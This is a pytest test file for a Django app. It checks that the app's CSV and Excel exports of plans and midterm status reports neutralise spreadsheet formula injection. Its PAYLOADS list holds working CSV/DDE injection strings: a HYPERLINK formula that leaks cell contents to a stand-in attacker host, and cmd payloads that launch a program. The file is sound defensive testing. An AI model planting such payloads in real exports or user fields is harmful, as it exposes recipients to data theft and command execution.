"""Downloads never carry a live formula: text that a user typed and that starts with =, +,
- or @ reaches Excel as text, in the plan and midtvejsstatus exports (the indicator export
holds only codes and numbers)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import StatusResponse
from tests import factories

# What an attacker would type into a title or an answer (CSV injection / DDE).
PAYLOADS = [
    '=HYPERLINK("http://angriber.example/?"&A1,"Klik her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode(
        "utf-8-sig"
    )
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutralised_csv(cells):
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not [cell for cell in cells if cell and (cell[0] in "=+@" or (cell[0] == "-" and "cmd" in cell))]


def assert_neutralised_xlsx(cells):
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells if isinstance(cell.value, str)]
    for payload in PAYLOADS:
        assert "'" + payload in values, payload
    assert not [v for v in values if v and (v[0] in "=+@" or (v[0] == "-" and "cmd" in v))]


@pytest.fixture
def hostile_plan(db):
    partnership = factories.PartnershipFactory(first_year=2021, last_year=2022)
    unit = factories.UnitFactory()
    activities = [
        factories.ActivityFactory(
            partnership=partnership, number=n + 1, title=payload, responsible_units=[unit]
        )
        for n, payload in enumerate(PAYLOADS)
    ]
    round = factories.ReportingRoundFactory(partnership=partnership)
    for activity, payload in zip(activities, reversed(PAYLOADS), strict=True):
        factories.StatusResponseFactory(
            round=round,
            activity=activity,
            # Handed in, so the coordinator's export holds the answer texts.
            status=StatusResponse.Status.SUBMITTED,
            on_track_text=payload,
            concerns_text=payload,
            deliverable_1=payload,
        )
    return partnership, round


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_plan_export_neutralises_formulas(client, hostile_plan, kind):
    partnership, _round = hostile_plan
    client.force_login(factories.coordinator_of(partnership))
    response = client.get(reverse("activities:plan", args=[partnership.slug]), {"export": kind})
    assert response.status_code == 200
    if kind == "csv":
        assert_neutralised_csv(csv_cells(response))
    else:
        assert_neutralised_xlsx(xlsx_cells(response))


def test_midtvejsstatus_export_neutralises_formulas_in_titles_and_answers(client, hostile_plan):
    partnership, round = hostile_plan
    client.force_login(factories.coordinator_of(partnership))
    response = client.get(reverse("activities:round_export", args=[round.pk]))
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert_neutralised_xlsx(cells)
    # Every payload appears once as a title and in the answers: nothing dropped.
    values = [cell.value for cell in cells]
    assert all(values.count("'" + payload) >= 3 for payload in PAYLOADS)
